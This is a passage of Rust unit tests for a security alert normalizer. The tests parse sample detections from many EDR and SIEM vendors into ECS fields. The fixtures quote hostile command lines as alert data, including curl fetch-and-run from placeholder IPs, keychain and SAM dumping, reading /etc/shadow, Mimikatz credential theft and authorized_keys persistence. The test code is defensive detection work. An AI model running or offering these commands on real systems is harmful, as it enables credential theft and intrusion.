        let a = from_json(jp, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "osascript");
        assert!(
            get(&a, "process.command_line").contains("\ndscl /Local/Default -authonly"),
            "{}",
            get(&a, "process.command_line")
        );
        // Sophos with the detection under `raw_data` (camel-case `cmdLine`, the grandparent, one
        // connection as an object).
        let so = json!({"id": "s", "type": "Event::Endpoint::Threat::PuaDetected", "endpoint_id": "e", "location": "lt-1",
            "raw_data": {"process": {"path": "C:\\W\\powershell.exe", "cmdLine": "powershell -c x"},
                "parent": {"path": "C:\\W\\cmd.exe", "cmdLine": "cmd /c x"},
                "grandparent": {"path": "C:\\O\\WINWORD.EXE", "cmdLine": "WINWORD.EXE /n d.docm"},
                "network": {"remote_ip": "198.51.100.4", "remote_port": 443, "domain": "e.top"}}});
        let a = from_json(so, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "powershell -c x");
        assert_eq!(get(&a, "process.parent.command_line"), "cmd /c x");
        assert_eq!(get(&a, "process.parent.parent.name"), "WINWORD.EXE");
        assert_eq!(get(&a, "destination.domain"), "e.top");
        // Uptycs with several process rows: the first is the process, a row without arguments
        // follows by its environment and program.
        let up = json!({"id": "u", "code": "X", "asset": {"hostName": "n1"}, "metadata": {"process_events": [
            {"pid": 1, "path": "/tmp/.pk/pwn", "cmdline": "./pwn", "parent_path": "/usr/bin/bash"},
            {"pid": 2, "path": "/usr/bin/pkexec", "cmdline": "", "env": "GCONV_PATH=./p.so:.;CHARSET=PWNKIT"}]}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "./pwn\nGCONV_PATH=./p.so:. CHARSET=PWNKIT /usr/bin/pkexec"
        );
        // A Cybereason MalOp element whose root cause is a process element.
        let cr = json!({"guidString": "11.1", "simpleValues": {"elementDisplayName": {"values": ["k"]}},
            "elementValues": {"affectedMachines": {"elementValues": [{"name": "mac-3", "elementType": "Machine"}]},
                "primaryRootCauseElements": {"elementValues": [{"name": "bash", "elementType": "Process",
                    "simpleValues": {"commandLine": {"values": ["/bin/bash /Users/j/.local/bin/k"]}}}]}}});
        let a = from_json(cr, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/bash /Users/j/.local/bin/k"
        );
        assert_eq!(get(&a, "host.name"), "mac-3");
        // CrowdStrike's ProcessRollup2 under the event stream's `event`, with the script's text.
        let cs = json!({"metadata": {"eventType": "Event_ProcessRollup2"}, "event": {"event_simpleName": "ProcessRollup2",
            "event_platform": "Mac", "ComputerName": "mba", "ImageFileName": "/usr/bin/osascript",
            "CommandLine": "osascript -l JavaScript /Users/u/.c/s.js", "ScriptContentPreview": "a.doShellScript('curl x')"}});
        let a = from_json(cs, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "osascript -l JavaScript /Users/u/.c/s.js\na.doShellScript('curl x')"
        );
        assert_eq!(get(&a, "host.os.type"), "macos");
        // eslogger's exec environment.
        let es = json!({"process": {"executable": {"path": "/bin/sh"}, "audit_token": {"pid": 1, "euid": 501}},
            "event": {"exec": {"target": {"executable": {"path": "/usr/local/bin/node"}, "audit_token": {"pid": 2, "euid": 501}},
                "args": ["node", "-e", "x"], "env": ["npm_lifecycle_event=postinstall", "HOME=/Users/u"]}}, "time": "2025-12-17T11:02:44Z"});
        let a = from_json(es, "x").unwrap();
        assert_eq!(
            a.doc["process"]["env_vars"],
            json!(["npm_lifecycle_event=postinstall", "HOME=/Users/u"])
        );
        // santad lines carried as a list: one alert each.
        let sl = json!({"santa_log": ["[t] I santad: action=EXEC|decision=ALLOW|pid=1|ppid=0|uid=501|user=u|path=/bin/sh|args=sh -c id|machineid=M",
            "[t] I santad: action=EXEC|decision=ALLOW|pid=2|ppid=1|uid=501|user=u|path=/usr/bin/dscl|args=dscl . -authonly u x|machineid=M"], "machine_id": "M"});
        let got = from_json_expanded(sl, "line 1");
        assert_eq!(got.len(), 2);
        assert_eq!(
            get(got[1].as_ref().unwrap(), "process.executable"),
            "/usr/bin/dscl"
        );
        // A Datadog signal typed `log_detection`; an executable given as an object and an
        // address given as a list read as ECS's text.
        let dd = json!({"id": "d", "type": "log_detection", "attributes": {"host": "h", "attributes": {
            "process": {"executable": {"path": "/usr/bin/dash"}, "argv0": "sh", "args": ["-c", "id"]}}}});
        let a = from_json(dd, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/usr/bin/dash");
        let odd = json!({"process": {"executable": {"path": "/bin/bash", "name": "bash"}, "command_line": "bash -c id"},
            "destination": {"ip": ["10.0.0.1", "10.0.0.2"]}, "host": {"name": "h"}});
        let a = from_json(odd, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/bin/bash");
        assert_eq!(get(&a, "destination.ip"), "10.0.0.1");
        // Sysmon for Linux: an empty ParentCommandLine beside the parent's program is a parent
        // started with no arguments.
        let sy = json!({"Event": {"System": {"Provider": {"@Name": "Linux-Sysmon"}, "EventID": 1, "Channel": "Linux-Sysmon/Operational", "Computer": "b2"},
            "EventData": {"Image": "/usr/bin/bash", "CommandLine": "/bin/bash -p", "User": "root", "ParentImage": "/usr/bin/pkexec", "ParentCommandLine": ""}}});
        let a = from_json(sy, "x").unwrap();
        assert_eq!(a.doc["process"]["parent"]["args_count"], json!(0));
    }

    #[test]
    fn session_29_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // One Sumo Logic message as a monitor's webhook sends it: `_raw` (a JSON event no reader
        // knows, its command line an `args` list) beside the message's metadata; the account id
        // and the macOS path are read too.
        let raw = json!({"event": "exec", "host": "LIB-3", "pid": 812, "ppid": 1, "uid": 0, "user": "root",
            "path": "/bin/bash", "args": ["/bin/bash", "/Library/Scripts/IT/reset.sh"]});
        let sumo = json!({"_messagetime": 1762383600221_i64, "_sourcehost": "LIB-3", "_raw": raw.to_string(),
            "alert": {"name": "Root shell"}});
        let a = from_json(sumo, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/bash /Library/Scripts/IT/reset.sh"
        );
        assert_eq!(get(&a, "process.executable"), "/bin/bash");
        assert_eq!(get(&a, "user.id"), "0");
        assert_eq!(get(&a, "host.os.type"), "macos");
        // … while a Sumo document whose `_raw` is a plain line is not unwrapped into nothing.
        let line = json!({"_messagetime": 1_i64, "_raw": "Nov  5 21:00:00 h sudo: u : COMMAND=/usr/bin/id"});
        assert!(from_json(line, "x").is_ok());
        // SentinelOne Deep Visibility's URL as `dst.url.address`.
        let s1 = json!({"event.type": "Process Creation", "endpoint.name": "mbp", "endpoint.os": "osx",
            "src.process.name": "zsh", "src.process.cmdline": "-zsh", "tgt.process.cmdline": "bash", "tgt.process.image.path": "/bin/bash",
            "dst.url.address": "https://e.example/i.sh", "dst.ip.address": "203.0.113.5"});
        let a = from_json(s1, "x").unwrap();
        assert_eq!(get(&a, "url.full"), "https://e.example/i.sh");
        assert_eq!(get(&a, "destination.ip"), "203.0.113.5");
        // Trend Vision One: an Office application given as the object, which the acting
        // interpreter's command never names, is the chain's origin above the parent.
        let tr = json!({"schemaVersion": "1.12", "id": "WB-1", "model": "Office Application Spawned PowerShell", "workbenchLink": "https://portal.xdr.trendmicro.com/x",
            "indicators": [{"id": 1, "type": "command_line", "field": "processCmd", "value": "powershell.exe -nop -c iex x"},
                {"id": 2, "type": "command_line", "field": "parentCmd", "value": "C:\\Windows\\system32\\cmd.exe /c powershell -nop -c x"},
                {"id": 3, "type": "command_line", "field": "objectCmd", "value": "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\u\\d.xlsm\""}]});
        let a = from_json(tr, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "powershell.exe -nop -c iex x"
        );
        assert_eq!(get(&a, "process.parent.name"), "cmd.exe");
        assert_eq!(get(&a, "process.parent.parent.name"), "EXCEL.EXE");
        // Cortex XDR: a connection whose action is the command the actor (ssh) sent to the far
        // end is the actor's; a program the connection's action ran locally stays the process.
        let cx = json!({"alert_id": "1", "host_name": "mbp", "os_type": "AGENT_OS_MAC", "actor_process_image_name": "ssh", "actor_process_image_path": "/usr/bin/ssh",
            "actor_process_command_line": "ssh -o StrictHostKeyChecking=no root@10.1.1.4 bash -s",
            "causality_actor_process_command_line": "zsh -c for ip in 10.1.1.{1..9}; do ssh root@$ip 'bash -s' < /tmp/.r.sh; done",
            "action_process_image_command_line": "bash -s (remote)", "action_remote_ip": "10.1.1.4", "action_remote_port": 22});
        let a = from_json(cx, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "ssh");
        assert_eq!(get(&a, "host.os.type"), "macos");
        // SentinelOne threat: the commands its indicators quote follow as branches; prose does not.
        let s1 = json!({"threatInfo": {"threatId": "t", "filePath": "/usr/bin/osascript", "classification": "Infostealer",
                "maliciousProcessArguments": "osascript -l JavaScript /Users/c/Library/.s/u.js"},
            "agentRealtimeInfo": {"agentComputerName": "mbp", "agentOsType": "macos"},
            "indicators": [{"category": "InfoStealer", "description": "Keychain dumping via security utility: security dump-keychain -d /Users/c/login.keychain-db"},
                {"category": "Persistence", "description": "LaunchAgent com.apple.s.plist created"}]});
        let a = from_json(s1, "x").unwrap();
        let cmd = get(&a, "process.command_line");
        assert!(
            cmd.ends_with("\nsecurity dump-keychain -d /Users/c/login.keychain-db"),
            "{cmd}"
        );
        assert!(!cmd.contains("LaunchAgent"), "{cmd}");
        // Cisco Secure Endpoint: the ancestry as a list, oldest first.
        let ci = json!({"event_type": "Executed Malware", "connector_guid": "c", "computer": {"connector_guid": "c", "hostname": "srv"},
            "file": {"file_name": "powershell.exe", "file_path": "\\\\?\\C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "parent": {"file_name": "cmd.exe"}},
            "command_line": {"arguments": "powershell.exe -enc AA"},
            "process_tree": ["C:\\Program Files (x86)\\Kaseya\\C1\\AgentMon.exe", "C:\\Windows\\System32\\cmd.exe /c \"C:\\kworking\\r.bat\"", "powershell.exe"]});
        let a = from_json(ci, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "C:\\Windows\\System32\\cmd.exe /c \"C:\\kworking\\r.bat\""
        );
        assert_eq!(get(&a, "process.parent.parent.name"), "AgentMon.exe");
        // Trend: an object known by its path alone that the acting command starts by name is
        // what that command line already says; the acting process is judged.
        let tr = json!({"schemaVersion": "1.14", "id": "WB-2", "model": "Script Host Launched via Command Prompt", "workbenchLink": "https://portal.xdr.trendmicro.com/x",
            "indicators": [{"id": 1, "type": "command_line", "field": "processCmd", "value": "C:\\Windows\\system32\\cmd.exe /c cscript.exe //B C:\\Windows\\System32\\slmgr.vbs /ato"},
                {"id": 2, "type": "command_line", "field": "parentCmd", "value": "C:\\Windows\\system32\\gpscript.exe /Startup"},
                {"id": 3, "type": "fullpath", "field": "objectFilePath", "value": "C:\\Windows\\System32\\cscript.exe"}]});
        let a = from_json(tr, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("slmgr.vbs /ato"));
        assert_eq!(get(&a, "process.parent.name"), "gpscript.exe");
        // A Datadog log item exported without its `type`.
        let dd = json!({"id": "AwAAAZ8", "attributes": {"service": "runtime-security-agent", "host": "ip-10-4", "tags": ["source:runtime-security-agent"],
            "attributes": {"evt": {"name": "exec"}, "process": {"pid": 9, "user": "app", "comm": "python3", "executable": {"path": "/usr/bin/python3.11"},
                "argv0": "python3", "args": "/dev/shm/.c/.sd.py -q"}}}});
        let a = from_json(dd, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "python3 /dev/shm/.c/.sd.py -q"
        );
        // … whose argument list already starts with the program.
        let dd = json!({"id": "AwAAAZ9", "type": "log", "attributes": {"service": "runtime-security-agent", "attributes": {"evt": {"name": "exec"},
            "process": {"comm": "bash", "executable": {"path": "/usr/bin/bash"}, "args": ["bash"]}}}});
        let a = from_json(dd, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "bash");
        // Defender AlertEvidence naming the parent by name in `AdditionalFields`, with its
        // command line, the grandparent and the logon type beside it.
        let de = json!({"Timestamp": "2025-12-09T14:22:08Z", "AlertId": "da1", "Title": "Suspicious PowerShell command line", "ServiceSource": "Microsoft Defender for Endpoint",
            "EntityType": "Process", "FileName": "powershell.exe", "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "ProcessCommandLine": "powershell.exe -nop -enc AA", "AccountName": "hd.m", "DeviceName": "fs02",
            "AdditionalFields": "{\"ParentProcess\": \"wsmprovhost.exe\", \"ParentProcessCommandLine\": \"C:\\\\Windows\\\\system32\\\\wsmprovhost.exe -Embedding\", \"GrandParentProcess\": \"svchost.exe\", \"LogonType\": \"Network\"}"});
        let a = from_json(de, "x").unwrap();
        assert_eq!(get(&a, "process.parent.name"), "wsmprovhost.exe");
        assert_eq!(get(&a, "process.parent.parent.name"), "svchost.exe");
        assert_eq!(get(&a, "winlog.logon.type"), "Network");
        // A SentinelOne threat whose file is a Windows script, no arguments recorded: the
        // script host ran it.
        let s1 = json!({"threatInfo": {"threatId": "t", "filePath": "\\Device\\HarddiskVolume3\\Users\\k\\AppData\\Roaming\\u.vbs", "originatorProcess": "cmd.exe", "classification": "Malware"},
            "agentRealtimeInfo": {"agentComputerName": "lt-1", "agentOsType": "windows"}});
        let a = from_json(s1, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "wscript.exe");
        assert_eq!(
            get(&a, "process.command_line"),
            "wscript.exe \"C:\\Users\\k\\AppData\\Roaming\\u.vbs\""
        );
        // Sophos: a remedy item of type `command` is the detected process by its command line.
        let so = json!({"id": "s", "type": "Event::Endpoint::Threat::CommandLineMalwareDetected", "endpoint_id": "e", "customer_id": "c", "location": "ws-1",
            "name": "Malicious behavior detected in \"C:\\Users\\d\\AppData\\Local\\scvhost.exe\" (Exec_36a)",
            "core_remedy_items": {"items": [{"type": "command", "descriptor": "powershell.exe -NoP -W Hidden -c \"IEX x\"",
                "processPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}]}});
        let a = from_json(so, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "powershell.exe");
        assert!(get(&a, "process.command_line").contains("IEX x"));
    }

    #[test]
    fn session_30_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // Cybereason: a MalOp whose `processTree` lists its processes oldest first, no parent
        // named: a shell's `-c` is the parent of the commands it lists, and of the program the
        // chain fetched (known by its image only); the machine, user and connection read too.
        let cr = json!({"guidString": "11.7", "simpleValues": {"displayName": {"values": ["zsh"]}},
            "elementValues": {"affectedMachines": {"elementValues": [{"name": "MBA-1", "elementType": "Machine"}]},
                "affectedUsers": {"elementValues": [{"name": "mba-1\\ann", "elementType": "User"}]}},
            "processTree": [{"elementName": "Terminal", "imageFile": "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"},
                {"elementName": "zsh", "commandLine": "/bin/zsh -c curl -so /tmp/.a http://192.0.2.7/a && xattr -c /tmp/.a && /tmp/.a &"},
                {"elementName": "curl", "commandLine": "curl -so /tmp/.a http://192.0.2.7/a"},
                {"elementName": "xattr", "commandLine": "xattr -c /tmp/.a"},
                {"elementName": ".a", "imageFile": "/private/tmp/.a", "connections": [{"remoteAddress": "192.0.2.7", "remotePort": 8080, "direction": "OUTGOING"}]}]});
        let a = from_json(cr, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "curl");
        let cmd = get(&a, "process.command_line");
        assert!(
            cmd.starts_with("curl -so /tmp/.a http://192.0.2.7/a\nxattr -c /tmp/.a"),
            "{cmd}"
        );
        assert_eq!(get(&a, "process.parent.name"), "zsh");
        assert_eq!(get(&a, "process.parent.parent.name"), "Terminal");
        assert_eq!(get(&a, "host.name"), "MBA-1");
        assert_eq!(get(&a, "user.name"), "ann");
        assert_eq!(get(&a, "destination.ip"), "192.0.2.7");
        assert_eq!(a.id, "11.7");
        // winlogbeat's `winlog.user` on a PowerShell script block is the account that ran it.
        let ps = json!({"event": {"code": "4104"}, "host": {"name": "w"},
            "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": "4104",
                "user": {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY"}},
            "powershell": {"file": {"script_block_text": "Get-Date"}}});
        let a = from_json(ps, "x").unwrap();
        assert_eq!(get(&a, "user.name"), "SYSTEM");
        assert_eq!(get(&a, "user.id"), "S-1-5-18");
        // (on a Sysmon event it is Sysmon's own account, not the process's)
        let sy = json!({"host": {"name": "w"}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "3",
            "user": {"name": "SYSTEM", "domain": "NT AUTHORITY"}, "event_data": {"Image": "C:\\x\\a.exe", "DestinationIp": "192.0.2.1"}}});
        let a = from_json(sy, "x").unwrap();
        assert_ne!(get(&a, "user.name"), "SYSTEM");
        // A 4688 without the mandatory label: a UAC-elevated token runs at High integrity.
        let se = json!({"EventID": 4688, "Computer": "w", "NewProcessName": "C:\\Windows\\System32\\schtasks.exe",
            "CommandLine": "schtasks /create /tn x /ru SYSTEM /tr calc", "SubjectUserName": "kim", "SubjectDomainName": "CORP",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "TokenElevationType": "%%1937"});
        let a = from_json(se, "x").unwrap();
        assert_eq!(get(&a, "process.integrity_level"), "High");
        // Uptycs: an alert whose row is `process` (its parent an object, its ancestors listed
        // from the grandparent up), what it started and the script's text as branches.
        let up = json!({"id": "u", "assetId": "a", "assetHostName": "mbp-1", "code": "X", "metadata": {
            "process": {"pid": 5, "name": "bash", "path": "/bin/bash", "cmdline": "/bin/bash /Users/j/.x/run.sh", "username": "j"},
            "parent": {"pid": 4, "name": "python3", "path": "/usr/bin/python3", "cmdline": "python3 /Users/j/.x/p.py"},
            "ancestors": [{"pid": 3, "name": "sshd", "cmdline": "sshd: j@notty"}],
            "children": [{"name": "ssh", "cmdline": "ssh deploy@10.0.0.2 id"}],
            "script_preview": "for h in a b; do ssh $h id; done"}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/bash /Users/j/.x/run.sh\nssh deploy@10.0.0.2 id\nfor h in a b; do ssh $h id; done"
        );
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "python3 /Users/j/.x/p.py"
        );
        assert_eq!(
            get(&a, "process.parent.parent.command_line"),
            "sshd: j@notty"
        );
        assert_eq!(get(&a, "host.name"), "mbp-1");
        // Wazuh auditd with the parent and grandparent records joined beside the event.
        let wz = json!({"agent": {"name": "l-1"}, "rule": {"id": "1"}, "data": {"audit": {"exe": "/usr/bin/dash", "command": "sh",
            "uid": "0", "auid": "1007", "execve": {"a0": "/bin/sh"}, "login_user": "lg",
            "parent": {"exe": "/usr/bin/pkexec", "argc": "0", "cmd": ""}, "grandparent": {"exe": "/tmp/.pk/pwn", "cmd": "./pwn"}}}});
        let a = from_json(wz, "x").unwrap();
        assert_eq!(get(&a, "process.parent.name"), "pkexec");
        assert_eq!(a.doc["process"]["parent"]["args_count"], json!(0));
        assert_eq!(get(&a, "process.parent.parent.executable"), "/tmp/.pk/pwn");
        assert_eq!(get(&a, "user.audit.name"), "lg");
        // Cybereason: a MalOp's root-cause process naming its parent in its own values, the
        // MalOp's `childProcesses` as what it started.
        let cr = json!({"guidString": "11.9", "simpleValues": {"elementDisplayName": {"values": ["bash"]}},
            "elementValues": {"affectedUsers": {"elementValues": [{"name": "mbp\\jw", "elementType": "User"}]},
                "primaryRootCauseElements": {"elementValues": [{"name": "bash", "elementType": "Process", "simpleValues": {
                    "commandLine": {"values": ["/bin/bash /private/tmp/.s/run.sh"]},
                    "parentProcess.name": {"values": ["python3"]}, "parentProcess.commandLine": {"values": ["python3 -c x"]}}}]}},
            "childProcesses": [{"name": "ssh", "commandLine": "ssh jw@build-1 id"}]});
        let a = from_json(cr, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/bash /private/tmp/.s/run.sh\nssh jw@build-1 id"
        );
        assert_eq!(get(&a, "process.parent.command_line"), "python3 -c x");
        assert_eq!(get(&a, "user.name"), "jw");
        // Jamf Protect: the related copy abridged, the match's own record whole.
        let jp = json!({"caid": "c", "certid": "d", "input": {"eventType": "GPProcessEvent", "host": {"hostname": "m"},
            "match": {"facts": [{"name": "F"}], "event": {"type": 1, "pid": 8, "process": {"path": "/usr/bin/osascript", "args": ["osascript", "-e", "display dialog \"x\" with hidden answer"]}}},
            "related": {"processes": [{"pid": 8, "ppid": 7, "path": "/usr/bin/osascript", "args": ["osascript", "-e", "display dialog ..."]},
                {"pid": 7, "ppid": 1, "path": "/Volumes/H/H.app/Contents/MacOS/H", "args": ["/Volumes/H/H.app/Contents/MacOS/H"]}]}}});
        let a = from_json(jp, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("with hidden answer"));
        assert_eq!(get(&a, "process.parent.name"), "H");
        // Elastic Defend: `process.Ext.descendants` follow the process's command as branches.
        let el = json!({"event": {"kind": "signal"}, "host": {"name": "m"}, "process": {"name": "bash",
            "command_line": "/bin/bash /tmp/PKInstallSandbox.x/Scripts/p/postinstall",
            "Ext": {"descendants": [{"command_line": "curl -sL https://e.example/h -o /Users/Shared/.h"}, {"args": ["/Users/Shared/.h", "-d"]}]}}});
        let a = from_json(el, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/bash /tmp/PKInstallSandbox.x/Scripts/p/postinstall\ncurl -sL https://e.example/h -o /Users/Shared/.h\n/Users/Shared/.h -d"
        );
        // Uptycs: an alert known by its asset's host name alone (no asset id), the command
        // line the rule matched in `key`/`value`, the script it fed over stdin quoted.
        let up = json!({"alertTime": "2026-02-19T21:40:09.000Z", "id": "u2", "code": "SSH", "assetHostName": "mbp-2",
            "key": "cmdline", "value": "ssh root@10.0.0.9 bash -s",
            "metadata": {"pid": "9", "ppid": "8", "username": "p", "parent_cmdline": "/bin/zsh /Users/p/.local/bin/.s",
                "ancestor_list": "[{\"name\":\"zsh\",\"pid\":8,\"cmdline\":\"/bin/zsh /Users/p/.local/bin/.s\"}]",
                "script_excerpt": "echo k >> /root/.ssh/authorized_keys"}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "ssh root@10.0.0.9 bash -s\necho k >> /root/.ssh/authorized_keys"
        );
        assert_eq!(get(&a, "host.name"), "mbp-2");
        // Cortex XDR: the connection's host name from the DNS query recorded beside it.
        let cx = json!({"alert_id": "5", "host_name": "ws-1", "os_type": "AGENT_OS_WINDOWS", "source": "XDR BIOC",
            "actor_process_image_name": "node.exe", "actor_process_command_line": "node npm-cli.js ci",
            "action_process_image_name": "cmd.exe", "action_process_image_command_line": "cmd.exe /d /s /c \"node-gyp rebuild\"",
            "action_remote_ip": "10.60.1.25", "action_remote_port": 443, "dns_query_name": "artifactory.dev.example.local"});
        let a = from_json(cx, "x").unwrap();
        assert_eq!(
            get(&a, "destination.domain"),
            "artifactory.dev.example.local"
        );
    }

    #[test]
    fn session_31_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // Cybereason: a MalOp whose `elementValues.processes` is a flat list (name, commandLine,
        // parent by name) beside its machines and users.
        let cr = json!({"malopGuid": "11.9", "guidString": "11.9", "displayName": "reg.exe",
            "machines": [{"displayName": "app-1", "osType": "WINDOWS"}],
            "users": [{"displayName": "app-1\\administrator", "admin": true}],
            "elementValues": {"processes": [
                {"name": "powershell.exe", "commandLine": "powershell.exe", "parent": "explorer.exe"},
                {"name": "cmd.exe", "commandLine": "cmd.exe /c reg save HKLM\\SAM C:\\ProgramData\\s.h", "parent": "powershell.exe"},
                {"name": "reg.exe", "commandLine": "reg save HKLM\\SAM C:\\ProgramData\\s.h", "parent": "cmd.exe"}]}});
        let a = from_json(cr, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "reg.exe");
        assert_eq!(get(&a, "process.parent.name"), "cmd.exe");
        assert_eq!(get(&a, "host.name"), "app-1");
        // Google SecOps UDM: no platform recorded, but a product only macOS has.
        let udm = json!({"metadata": {"event_type": "PROCESS_LAUNCH", "product_name": "Jamf Protect"},
            "principal": {"hostname": "m1", "process": {"command_line": "-zsh", "file": {"full_path": "/bin/zsh"}}},
            "target": {"process": {"command_line": "bash x.sh", "file": {"full_path": "/bin/bash"}}}});
        assert_eq!(get(&from_json(udm, "x").unwrap(), "host.os.type"), "macos");
        // winlogbeat with ECS process fields and no `user`: the event's own account.
        let wb = json!({"host": {"name": "dc"}, "event": {"code": "1"},
            "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                "event_data": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c ver", "User": "NT AUTHORITY\\SYSTEM"}},
            "process": {"name": "cmd.exe", "pid": 4}});
        assert_eq!(get(&from_json(wb, "x").unwrap(), "user.name"), "SYSTEM");
        // A Datadog log item: its host beside its attributes.
        let dd = json!({"id": "AQ", "type": "log", "attributes": {"host": "lx02", "service": "s",
            "attributes": {"evt": {"name": "exec"}, "process": {"executable": {"path": "/usr/bin/dash"}, "args": "/opt/a/x.sh", "argv0": "/bin/sh"}}}});
        assert_eq!(get(&from_json(dd, "x").unwrap(), "host.name"), "lx02");
        // Sumo Logic Cloud SIEM: an auditd record's ids under `fields`, and Linux as its OS.
        let sumo = json!({"id": "S1", "name": "r", "allRecords": [
            {"metadata_vendor": "Linux", "metadata_product": "auditd", "timestamp": 1000, "device_hostname": "b1",
             "user_username": "rp", "commandLine": "cat /etc/shadow", "fields": {"uid": "0", "euid": "0", "auid": "1142"}}]});
        let a = from_json(sumo, "x").unwrap();
        assert_eq!(get(&a, "user.effective.id"), "0");
        assert_eq!(get(&a, "user.audit.id"), "1142");
        assert_eq!(get(&a, "host.os.type"), "linux");
        // Cisco Secure Endpoint: one event as the API answers for it, and a forwarder's
        // flattened parent command line and grandparent.
        let cse = json!({"version": "v1.2.0", "data": {"id": 1, "event_type": "Threat Detected", "connector_guid": "g",
            "computer": {"hostname": "r3", "connector_guid": "g"},
            "file": {"file_name": "python.exe", "file_path": "C:\\P\\python.exe", "parent": {"file_name": "cmd.exe"}},
            "command_line": {"arguments": "python.exe a.py"},
            "parent_command_line": "cmd.exe /c a.cmd", "grandparent": "C:\\Program Files\\T\\worker.exe"}});
        let a = from_json(cse, "x").unwrap();
        assert_eq!(get(&a, "process.parent.command_line"), "cmd.exe /c a.cmd");
        assert_eq!(
            get(&a, "process.parent.parent.executable"),
            "C:\\Program Files\\T\\worker.exe"
        );
        // Sophos Central: the remediated process known by its path, its command line in the
        // process tree's entry of the same pid; the tree runs through macOS's own programs.
        let so = json!({"id": "c2", "type": "Event::Endpoint::CoreBehavioralDetection", "endpoint_id": "e",
            "name": "Suspicious shell", "location": "MBP-1",
            "core_remedy_items": {"items": [{"type": "process", "sophosPid": "44102:1334", "descriptor": "/bin/zsh"}]},
            "process_tree": [{"path": "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "pid": 511},
                {"path": "/bin/zsh", "cmdline": "/bin/zsh -c curl http://192.0.2.9/s | zsh", "pid": 44102},
                {"path": "/usr/bin/true", "cmdline": "true", "pid": 44110}]});
        let a = from_json(so, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/zsh -c curl http://192.0.2.9/s | zsh"
        );
        assert_eq!(get(&a, "process.executable"), "/bin/zsh");
        assert_eq!(get(&a, "host.os.type"), "macos");
        // Defender AlertEvidence: the parent and grandparent as flat objects in AdditionalFields.
        let de = json!({"Type": "AlertEvidence", "EntityType": "Process", "AlertId": "da1", "DeviceName": "fd-1",
            "FileName": "powershell.exe", "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "ProcessCommandLine": "powershell.exe -enc AA==", "AccountName": "svc",
            "AdditionalFields": "{\"ParentProcess\": {\"FileName\": \"wsmprovhost.exe\", \"ProcessCommandLine\": \"wsmprovhost.exe -Embedding\"}, \"GrandParentProcess\": {\"FileName\": \"svchost.exe\"}}"});
        let a = from_json(de, "x").unwrap();
        assert_eq!(get(&a, "process.parent.name"), "wsmprovhost.exe");
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "wsmprovhost.exe -Embedding"
        );
        assert_eq!(get(&a, "process.parent.parent.name"), "svchost.exe");
        // Uptycs: the alert in snake case (`asset_id`, `host_name`, `os`).
        let up = json!({"id": "u1", "code": "X", "asset_id": "a", "host_name": "db-1", "os": "Red Hat Enterprise Linux 9.4",
            "metadata": {"path": "/usr/bin/bash", "cmdline": "bash -i", "username": "root",
                "ancestor_list": "[{\"pid\": 2, \"path\": \"/usr/bin/sh\", \"cmdline\": \"/bin/sh -c bash -i\"}]"}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(get(&a, "host.name"), "db-1");
        assert_eq!(get(&a, "process.parent.command_line"), "/bin/sh -c bash -i");
        assert_eq!(get(&a, "host.os.type"), "linux");
        // winlogbeat's PowerShell module: the structured script block, not the rendered message
        // cut short beside it; a Windows channel says the OS.
        for msg in [
            "Creating Scriptblock text (1 of 1): ...",
            "Creating Scriptblock text (1 of 3):",
        ] {
            let wb = json!({"event": {"code": "4104", "provider": "Microsoft-Windows-PowerShell"}, "host": {"name": "DC01"},
                "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": "4104",
                    "user": {"name": "adm.g", "domain": "T"}},
                "powershell": {"file": {"script_block_id": "e4", "script_block_text": "Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'"}},
                "message": msg});
            let a = from_json(wb, "x").unwrap();
            assert!(
                get(&a, "powershell.file.script_block_text").starts_with("Invoke-Mimikatz"),
                "{msg}"
            );
